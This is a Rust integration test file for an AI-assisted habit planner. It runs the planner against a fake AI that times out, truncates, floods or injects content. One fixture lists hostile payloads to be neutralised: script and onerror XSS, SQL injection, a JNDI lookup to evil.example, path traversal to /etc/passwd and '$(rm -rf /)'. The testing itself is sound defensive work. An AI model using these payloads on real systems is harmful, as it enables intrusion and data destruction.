//! Planning with an AI, tested with a fake AI that misbehaves on demand.

use std::collections::HashSet;
use std::time::Duration;

use habitro_server::features::planner::providers::Timeouts;
use habitro_server::features::planner::rules::{PlanDay, check_plan, fold};
use habitro_testkit::{Client, FakeAi, Mode, TestApp, TestDatabase, TestWorld, both_databases};
use serde_json::{Value, json};

const KEY: &str = "sk-secret-0123456789";

/// Timeouts about a tenth of the real ones, in the same order.
fn short_timeouts() -> Timeouts {
    Timeouts {
        connect: Duration::from_millis(500),
        token: Duration::from_millis(400),
        draft: Duration::from_millis(2500),
        answer: Duration::from_millis(800),
        retry: Duration::from_millis(10),
        abandoned: Duration::from_secs(30),
    }
}

async fn app(world: TestWorld, fake: &FakeAi, more: &[(&str, &str)]) -> TestApp {
    app_with(world, fake, more, short_timeouts()).await
}

async fn app_with(world: TestWorld, fake: &FakeAi, more: &[(&str, &str)], timeouts: Timeouts) -> TestApp {
    let base = fake.base_url();
    let mut variables =
        vec![("HABITRO_AI_BASE_URL", base.as_str()), ("HABITRO_AI_API_KEY", KEY), ("HABITRO_AI_MODEL", "any")];
    variables.extend(more);
    TestApp::configured(world, &variables, timeouts).await
}

fn request_body(habit: &str, days: u16) -> Value {
    json!({"habit": habit, "type": "good", "duration_days": days, "motivation": "to sleep better",
        "obstacle": "my phone", "answers": [{"question": "When?", "answer": "after dinner"}]})
}

async fn draft(client: &Client, body: Value) -> Value {
    client.post("/api/v1/planner/drafts", body).await.expect(201).json()
}

fn path(draft: &Value) -> String {
    format!("/api/v1/planner/drafts/{}", draft["id"].as_str().unwrap())
}

async fn trace(client: &Client, draft: &Value) -> Value {
    client.get(&format!("{}/trace", path(draft))).await.expect(200).json()
}

/// Checks that the draft is ready and its plan is valid.
fn check(draft: &Value) {
    let days: Vec<PlanDay> = serde_json::from_value(draft["days"].clone()).unwrap();
    let duration = u16::try_from(draft["duration_days"].as_u64().unwrap()).unwrap();
    assert_eq!(check_plan(&days, duration), Ok(()), "{draft}");
    assert_eq!(draft["state"], "ready");
}

fn tasks(draft: &Value) -> HashSet<String> {
    let days = draft["days"].as_array().unwrap().iter();
    days.flat_map(|day| day["tasks"].as_array().unwrap().iter().map(|task| fold(task.as_str().unwrap()))).collect()
}

fn events(stream: &str) -> Vec<(String, Value)> {
    let blocks = stream.split("\n\n").filter(|block| block.contains("data:"));
    let field =
        |block: &str, name: &str| block.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned();
    blocks.map(|block| (field(block, "event:"), serde_json::from_str(&field(block, "data:")).unwrap())).collect()
}

/// Returns two hundred responses with markup, code or invalid structure.
fn hostile_responses() -> Vec<String> {
    let payloads = [
        "<script>fetch('/api/v1/me',{method:'DELETE'})</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "[open](javascript:alert(1))",
        "![](https://evil.example/p.png)",
        "https://evil.example/?q=1",
        "www.evil.example",
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "'; DROP TABLE users; --",
        "\"; DELETE FROM drafts; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "{@html x}",
        "\u{202e}txet desrever\u{202c} here",
        "a\u{0}b is hidden",
        "\u{1b}[31mred\u{1b}[0m",
        "../../../etc/passwd",
        "$(rm -rf /)",
    ];
    let wrappers: [fn(&str) -> String; 10] = [
        |evil| json!({"days": [{"day": 1, "tasks": [evil, "Read a page", "Close the book"]}]}).to_string(),
        |evil| {
            json!({"days": [{"day": 1, "tasks": [format!("Read {evil}"), format!("Sit {evil}"), format!("Write {evil}")]}]}).to_string()
        },
        |evil| {
            json!({"days": [{"day": 1, "user_id": evil, "draft_id": evil, "tasks": [evil, evil, evil]}]}).to_string()
        },
        |evil| {
            json!({"id": evil, "habit": evil, "source": "ai", "accepted_as": evil, "days": [{"day": evil, "tasks": [evil, evil, evil]}]}).to_string()
        },
        |evil| format!("Day 1:\n1. {evil}\n2. Read {evil}\n3. Rest"),
        |evil| format!("```json\n{{\"days\": [{{\"day\": 1, \"tasks\": [\"{evil}\", \"{evil}\"]}}]}}\n```"),
        |evil| evil.repeat(500),
        |evil| format!("data: {evil}\n\nevent: done\ndata: {{\"draft\": {{\"id\": \"{evil}\"}}}}\n\n"),
        |evil| json!([[evil, evil, evil], {"role": "system", "content": evil}]).to_string(),
        |evil| format!("{}{evil}", "[{\"tasks\":".repeat(2000)),
    ];
    payloads.iter().flat_map(|payload| wrappers.iter().map(|wrap| wrap(payload))).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_responses_become_harmless_text() {
    let world = TestWorld::on(TestDatabase::sqlite());
    let fake = FakeAi::start(Mode::Well).await;
    let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "0")]).await;
    let (anna, bo) = (app.sign_up("Anna", "UTC").await, app.sign_up("Bo", "UTC").await);
    let other_draft = draft(&bo, request_body("read", 3)).await;
    bo.post("/api/v1/habits", json!({"name": "Walk", "type": "good", "duration_days": 3, "daily_tasks": ["Walk"]}))
        .await
        .expect(201);
    let data_of_bo = async || {
        let mut data = Vec::new();
        for path in ["/api/v1/me", "/api/v1/habits", "/api/v1/today", "/api/v1/rewards", path(&other_draft).as_str()] {
            data.push(bo.get(path).await.expect(200).json());
        }
        data
    };
    let before = data_of_bo().await;
    let responses = hostile_responses();
    assert_eq!(responses.len(), 200);
    for response in responses {
        fake.set_content(&response);
        let created = draft(&anna, request_body("read", 1)).await;
        check(&created);
        assert_ne!(created["id"], other_draft["id"]);
        for task in created["days"][0]["tasks"].as_array().unwrap() {
            let task = task.as_str().unwrap();
            let bad = ["<", ">", "{", "}", "](", "http", "www.", "javascript:", "\u{202e}", "\u{0}", "\u{1b}"];
            assert!(bad.iter().all(|bad| !task.contains(bad)), "{task:?} of {response:.200}");
        }
        // The same for questions, rewordings and classification.
        let body = json!({"habit": "read", "type": "good", "motivation": "calm", "obstacle": "tired"});
        let questions = anna.post("/api/v1/planner/questions", body).await.expect(200).json();
        assert_eq!(questions["questions"].as_array().unwrap().len(), 4);
        let reword_path = format!("{}/rewordings", path(&created));
        let reworded = anna.post(&reword_path, json!({"day": 1, "position": 1})).await.expect(200).json();
        let classified = anna.post("/api/v1/planner/classification", json!({"habit": "read"})).await.expect(200).json();
        assert!(["good", "bad", "unknown"].contains(&classified["type"].as_str().unwrap()));
        for response_body in [&questions, &reworded] {
            // Only the texts, because JSON itself contains brackets.
            let mut texts = vec![response_body["task"].as_str().unwrap_or_default()];
            for question in response_body["questions"].as_array().into_iter().flatten() {
                texts.push(question["text"].as_str().unwrap());
                texts.extend(
                    question["choices"].as_array().into_iter().flatten().map(|choice| choice.as_str().unwrap()),
                );
            }
            for text in texts {
                let bad = ["<", ">", "{", "}", "](", "http", "www.", "javascript:", "\u{202e}", "\u{0}", "\u{1b}"];
                assert!(bad.iter().all(|bad| !text.contains(bad)), "{text:?} of {response:.200}");
            }
        }
    }
    assert_eq!(data_of_bo().await, before);
}

both_databases! {
    async fn ai_classifies_asks_and_plans(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let classified = anna.post("/api/v1/planner/classification", json!({"habit": "smoke 12 cigarettes a day"})).await.expect(200).json();
        assert_eq!((&classified["type"], &classified["source"]), (&json!("bad"), &json!("ai")));
        let body = json!({"habit": "smoke 12 cigarettes a day", "type": "bad", "motivation": "my lungs", "obstacle": "breaks"});
        let questions = anna.post("/api/v1/planner/questions", body).await.expect(200).json();
        assert_eq!((questions["questions"].as_array().unwrap().len(), &questions["source"]), (4, &json!("ai")));
        let created = draft(&anna, request_body("smoke 12 cigarettes a day", 21)).await;
        check(&created);
        assert_eq!(created["source"], "ai");
        assert_eq!(anna.get(&path(&created)).await.expect(200).json(), created);

        let requests = fake.requests();
        let header = |name: &str| requests[2].headers.iter().find(|(known, _)| known == name).map(|(_, value)| value.clone());
        assert_eq!(header("authorization"), Some(format!("Bearer {KEY}")));
        assert_eq!((header("x-title").as_deref(), header("http-referer").as_deref()), (Some("Habitro"), Some("http://localhost:8080")));
        assert_eq!((&requests[2].body["stream"], &requests[2].body["response_format"]["type"]), (&json!(true), &json!("json_schema")));

        // The trace lists what was sent and received, where and when.
        let trace_of_draft = trace(&anna, &created).await;
        let calls = trace_of_draft["calls"].as_array().unwrap();
        let prompts: Vec<&Value> = calls.iter().map(|call| &call["prompt"]).collect();
        assert_eq!(prompts, ["classify.v1", "questions.v1", "plan.v1"]);
        for (call, request) in calls.iter().zip(&requests) {
            assert_eq!(call["sent"], request.body["messages"], "unchanged");
            assert_eq!((&call["ended"], &call["status"], &call["tries"]), (&json!("whole"), &json!(200), &json!(1)));
            assert_eq!(call["server"], format!("{}/chat/completions", fake.base_url()));
            assert!(!call["received"].as_str().unwrap().is_empty() && call["tokens"].as_u64().unwrap() > 0);
        }
        assert!(!trace_of_draft.to_string().contains(KEY));
        let bo = app.sign_up("Bo", "UTC").await;
        assert_eq!(bo.get(&format!("{}/trace", path(&created))).await.status, 404);

        let settings = anna.get("/api/v1/planner/settings").await.expect(200).json();
        assert!(settings["tokens_used"].as_i64().unwrap() > 100 && settings["tokens_limit"] == 100_000);
        let body = json!({"draft_id": created["id"]});
        anna.post("/api/v1/habits", body).await.expect(201);
    }

    async fn replacement_plan_has_other_tasks_and_deletes_the_replaced_draft(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let first = draft(&anna, request_body("read", 7)).await;
        // The model writes the same tasks again, so none of them is accepted.
        let day = |day: &Value| json!({"day": day["day"], "tasks": day["tasks"]});
        fake.set_content(&json!({"days": first["days"].as_array().unwrap().iter().map(day).collect::<Vec<_>>()}).to_string());
        let mut again = request_body("read", 7);
        again["replaces"] = first["id"].clone();
        let second = draft(&anna, again).await;
        check(&second);
        assert!(tasks(&first).is_disjoint(&tasks(&second)));
        assert_eq!(second["source"], "builtin");
        assert_eq!(anna.get(&path(&first)).await.status, 404);
        let requests = fake.requests();
        let request = requests.iter().find(|request| request.body["messages"][1]["content"].as_str().unwrap().contains("\"exclude\"")).unwrap();
        assert!(request.body["messages"][0]["content"].as_str().unwrap().contains("truly different plan"));
    }

    async fn every_mode_of_the_ai_ends_in_a_plan_and_a_true_trace(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "0")]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        for (name, mode) in Mode::ALL {
            fake.set_mode(mode);
            let (source, ended) = match mode {
                Mode::Well | Mode::Calm | Mode::Missing | Mode::LimitedOnce | Mode::Lines | Mode::Fenced | Mode::Whole | Mode::Old => ("ai", "whole"),
                // The retry is truncated too.
                Mode::Truncate | Mode::Length => ("mixed", "broke-off"),
                Mode::MissingAlways => ("mixed", "whole"),
                Mode::Chinese | Mode::Injected => ("builtin", "whole"),
                Mode::Hang => ("builtin", "too-slow"),
                Mode::Drip => ("builtin", "broke-off"),
                Mode::Huge => ("builtin", "broke-off"),
                Mode::Empty => ("builtin", "empty"),
                Mode::Limited | Mode::Failing | Mode::Unauthorized => ("builtin", "refused"),
                Mode::WrongType | Mode::Html => ("builtin", "not-understood"),
            };
            let started = std::time::Instant::now();
            let created = draft(&anna, request_body(&format!("read {name}"), 7)).await;
            // The timeout, with extra time for a busy machine.
            assert!(started.elapsed() < short_timeouts().draft + Duration::from_secs(5), "{name}: {:?}", started.elapsed());
            if matches!(mode, Mode::LimitedOnce) {
                // Retries in tests wait only milliseconds, so the second is that of `Retry-After`.
                assert!(started.elapsed() >= Duration::from_secs(1), "{:?}", started.elapsed());
            }
            check(&created);
            let trace_of_draft = trace(&anna, &created).await;
            let calls = trace_of_draft["calls"].as_array().unwrap();
            assert_eq!(calls[0]["ended"], ended, "{name}: {}", calls[0]);
            assert_eq!(created["source"], source, "{name}: {created} {calls:?}");
            let builtin: Vec<&Value> = created["days"].as_array().unwrap().iter().filter(|day| day["source"] == "builtin").map(|day| &day["day"]).collect();
            assert_eq!(trace_of_draft["builtin_days"], json!(builtin), "{name}");
            assert!(!created.to_string().contains("evil") && !created.to_string().contains("script"));
            assert!(!trace_of_draft.to_string().contains(KEY), "{name}: the key is in the trace");
            // Close the circuit breaker before testing the next mode.
            fake.set_mode(Mode::Well);
            if matches!(mode, Mode::Missing) {
                assert_eq!(calls[1]["prompt"], "missing.v1");
                assert!(calls[1]["sent"][1]["content"].as_str().unwrap().contains("\"days\":[3]"));
            }
            draft(&anna, request_body("between", 1)).await;
        }
    }

    async fn circuit_breaker_stops_calls_to_a_failing_ai(world) {
        let fake = FakeAi::start(Mode::Failing).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let mut calls = 0;
        for _ in 0..4 {
            check(&draft(&anna, request_body("read", 3)).await);
            calls = fake.requests().len();
        }
        assert!((5..=8).contains(&calls), "{calls} requests: some attempts, then none");
        let created = draft(&anna, request_body("read", 3)).await;
        let trace_of_draft = trace(&anna, &created).await;
        assert_eq!((&created["source"], &trace_of_draft["calls"][0]["ended"], &trace_of_draft["calls"][0]["tries"]), (&json!("builtin"), &json!("not-tried"), &json!(0)));
        assert_eq!(fake.requests().len(), calls);
        // Calls not created use no tokens.
        let used = anna.get("/api/v1/planner/settings").await.expect(200).json()["tokens_used"].as_i64().unwrap();
        assert_eq!(used, 0);
    }

    async fn unreachable_ai_is_reported_in_the_trace(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let base = fake.base_url();
        drop(fake);
        let app = TestApp::configured(world, &[("HABITRO_AI_BASE_URL", base.as_str())], short_timeouts()).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let created = draft(&anna, request_body("read", 3)).await;
        check(&created);
        let trace_of_draft = trace(&anna, &created).await;
        assert_eq!((&created["source"], &trace_of_draft["calls"][0]["ended"], &trace_of_draft["calls"][0]["status"]), (&json!("builtin"), &json!("unreachable"), &Value::Null));
    }

    async fn days_are_streamed_as_they_are_written(world) {
        let fake = FakeAi::start(Mode::MissingAlways).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let send = || anna.request("POST", "/api/v1/planner/drafts").header("accept", "text/event-stream").header("idempotency-key", "one").json(&request_body("jogging", 7)).send();
        let reply = send().await;
        assert_eq!((reply.status, reply.header("content-type")), (201, Some("text/event-stream")));
        let sent_events = events(&reply.text());
        assert_eq!((sent_events[0].0.as_str(), sent_events[1].clone()), ("draft", ("progress".to_owned(), json!({"day": 1, "of": 7}))));
        let (last, draft) = sent_events.last().unwrap();
        assert_eq!(last, "done");
        check(&draft["draft"]);
        let mut days: Vec<&Value> = sent_events.iter().filter(|(name, _)| name == "day").map(|(_, day)| day).collect();
        assert_eq!(days.last().unwrap()["source"], "builtin", "missing days are sent last");
        days.sort_by_key(|day| day["day"].as_u64());
        assert_eq!(json!(days), draft["draft"]["days"]);
        // The same key returns the same draft without calling the AI.
        let calls = fake.requests().len();
        let again = events(&send().await.text());
        assert_eq!(again.last().unwrap().1, json!({"draft": draft["draft"]}));
        assert_eq!(fake.requests().len(), calls);
    }

    async fn deleting_a_draft_stops_the_ai(world) {
        let fake = FakeAi::start(Mode::Hang).await;
        let app = app_with(world, &fake, &[], Timeouts { token: Duration::from_secs(60), draft: Duration::from_secs(60), ..short_timeouts() }).await;
        let (anna, token) = app.sign_up_with_token("Anna", "UTC").await;
        let waiting = tokio::spawn(async move { anna.post("/api/v1/planner/drafts", request_body("read", 7)).await });
        let anna = app.client().signed_in(&token);
        let id = loop {
            let found: Option<String> = app.world.db.read(|tx| {
                tx.optional("SELECT CAST(request AS TEXT) FROM drafts WHERE lease_holder IS NOT NULL", &[], |row| row.get(0))
            }).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
            if found.is_some() {
                break app.world.db.read(|tx| tx.one("SELECT id FROM drafts", &[], |row| row.get::<uuid::Uuid>(0))).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
            }
            tokio::task::yield_now().await;
        };
        let path = format!("/api/v1/planner/drafts/{id}");
        let unfinished = anna.get(&path).await.expect(200).json();
        assert_eq!((&unfinished["state"], &unfinished["days"]), (&json!("making"), &json!([])));
        assert_eq!(anna.post("/api/v1/habits", json!({"draft_id": id})).await.expect(409).code(), "still-making");
        assert_eq!(anna.patch(&path, json!({"days": [{"day": 1, "tasks": ["Walk"]}]})).await.expect(409).code(), "still-making");
        anna.delete(&path).await.expect(204);
        fake.wait_for_disconnect().await;
        assert_eq!(waiting.await.unwrap().status, 404);
    }

    async fn disconnected_user_stops_the_ai_and_finds_a_plan(world) {
        let fake = FakeAi::start(Mode::Hang).await;
        let timeouts = Timeouts { token: Duration::from_secs(60), draft: Duration::from_secs(60), abandoned: Duration::from_millis(100), ..short_timeouts() };
        let app = app_with(world, &fake, &[], timeouts).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let result = tokio::time::timeout(Duration::from_millis(500), anna.post("/api/v1/planner/drafts", request_body("read", 7))).await;
        assert!(result.is_err(), "the AI hangs");
        fake.wait_for_disconnect().await;
        let id = app.world.db.read(|tx| tx.one("SELECT id FROM drafts", &[], |row| row.get::<uuid::Uuid>(0))).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
        let created = loop {
            let created = anna.get(&format!("/api/v1/planner/drafts/{id}")).await.expect(200).json();
            if created["state"] == "ready" {
                break created;
            }
        };
        check(&created);
        assert_eq!(trace(&anna, &created).await["calls"][0]["ended"], "stopped");
    }

    async fn draft_of_a_stopped_server_is_completed(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let created = draft(&anna, request_body("read", 7)).await;
        // The state left by a process killed half-way: some of the days, and a valid lease.
        let lease = app.world.clock.clock().now() + jiff::SignedDuration::from_secs(15);
        let half = json!(created["days"].as_array().unwrap()[..3]).to_string();
        app.world.db.write(habitro_server::platform::db::Key::of("x"), move |tx| {
            tx.execute("UPDATE drafts SET state = 'making', days = $1, lease_holder = 'gone', lease_expires_at = $2", &[&half, &lease])
        }).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
        let unfinished = anna.get(&path(&created)).await.expect(200).json();
        assert_eq!((&unfinished["state"], unfinished["days"].as_array().unwrap().len()), (&json!("making"), 3));
        app.world.clock.advance_seconds(16);
        let found = anna.get(&path(&created)).await.expect(200).json();
        check(&found);
        assert_eq!((&found["source"], &found["days"][2], &found["days"][3]["source"]), (&json!("mixed"), &created["days"][2], &json!("builtin")));
    }

    async fn daily_token_quota_is_enforced(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "4000")]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let mut refused = None;
        for _ in 0..8 {
            let reply = anna.post("/api/v1/planner/drafts", request_body("read", 14)).await;
            if reply.status == 429 {
                refused = Some(reply);
                break;
            }
        }
        let refused = refused.expect("a limit");
        assert_eq!(refused.code(), "planner-quota");
        assert!(refused.header("retry-after").unwrap().parse::<u64>().unwrap() > 0);
        let used = anna.get("/api/v1/planner/settings").await.json()["tokens_used"].as_i64().unwrap();
        assert!((1..=4000).contains(&used), "{used}");
        // The built-in planner still works, and other users are not affected.
        anna.put("/api/v1/planner/settings", json!({"builtin_only": true})).await.expect(200);
        check(&draft(&anna, request_body("read", 14)).await);
        let bo = app.sign_up("Bo", "UTC").await;
        assert_eq!(draft(&bo, request_body("read", 7)).await["source"], "ai");
        app.world.clock.advance_minutes(24 * 60);
        anna.put("/api/v1/planner/settings", json!({"builtin_only": false})).await.expect(200);
        assert_eq!(draft(&anna, request_body("read", 14)).await["source"], "ai");
    }

    async fn builtin_only_setting_disables_the_ai(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let settings = anna.put("/api/v1/planner/settings", json!({"builtin_only": true})).await.expect(200).json();
        assert_eq!((&settings["builtin_only"], &settings["ai"]["model"]), (&json!(true), &json!("any")));
        assert_eq!(anna.get("/api/v1/planner/settings").await.expect(200).json(), settings);
        anna.post("/api/v1/planner/classification", json!({"habit": "read"})).await.expect(200);
        let body = json!({"habit": "read", "type": "good", "motivation": "calm", "obstacle": "tired"});
        assert_eq!(anna.post("/api/v1/planner/questions", body).await.expect(200).json()["source"], "builtin");
        let created = draft(&anna, request_body("read", 7)).await;
        assert_eq!((&created["source"], fake.requests().len()), (&json!("builtin"), 0));
        assert_eq!(trace(&anna, &created).await["calls"], json!([]));
    }

    async fn ai_is_off_when_configured_off(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[("HABITRO_AI", "off")]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        assert_eq!(draft(&anna, request_body("read", 7)).await["source"], "builtin");
        assert_eq!(anna.get("/api/v1/planner/settings").await.json()["ai"], Value::Null);
        assert!(fake.requests().is_empty());
    }

    async fn harmful_requests_are_not_sent_to_the_ai(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let harmful = "stop taking my antidepressants";
        for (path, body) in [
            ("classification", json!({"habit": harmful})),
            ("questions", json!({"habit": harmful, "type": "bad", "motivation": "x", "obstacle": "y"})),
            ("questions", json!({"habit": "read", "type": "bad", "motivation": "I want to die", "obstacle": "y"})),
            ("drafts", request_body(harmful, 7)),
        ] {
            assert_eq!(anna.post(&format!("/api/v1/planner/{path}"), body).await.expect(422).code(), "needs-care");
        }
        assert!(fake.requests().is_empty());
    }

    async fn rewording_replaces_one_task(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let created = draft(&anna, request_body("read", 3)).await;
        let path = format!("{}/rewordings", path(&created));
        let other = anna.post(&path, json!({"day": 2, "position": 1})).await.expect(200).json();
        assert_eq!(other["source"], "ai");
        fake.set_mode(Mode::Injected);
        let other = anna.post(&path, json!({"day": 2, "position": 3})).await.expect(200).json();
        fake.set_mode(Mode::Failing);
        let third = anna.post(&path, json!({"day": 1, "position": 2})).await.expect(200).json();
        assert_eq!(third["source"], "builtin");
        assert!(!tasks(&created).contains(&fold(third["task"].as_str().unwrap())));
        assert!(!other["task"].as_str().unwrap().contains('<'));
        assert_eq!(anna.post(&path, json!({"day": 9, "position": 1})).await.expect(422).fields(), ["day: not-in-plan"]);
        assert_eq!(anna.post(&path, json!({"day": 1, "position": 0})).await.expect(422).fields(), ["position: not-in-plan"]);
        let bo = app.sign_up("Bo", "UTC").await;
        assert_eq!(bo.post(&path, json!({"day": 1, "position": 1})).await.status, 404);
    }

    async fn long_plan_is_requested_in_parts(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let created = draft(&anna, request_body("read", 66)).await;
        check(&created);
        assert_eq!((&created["source"], fake.requests().len()), (&json!("ai"), 4));
    }
}
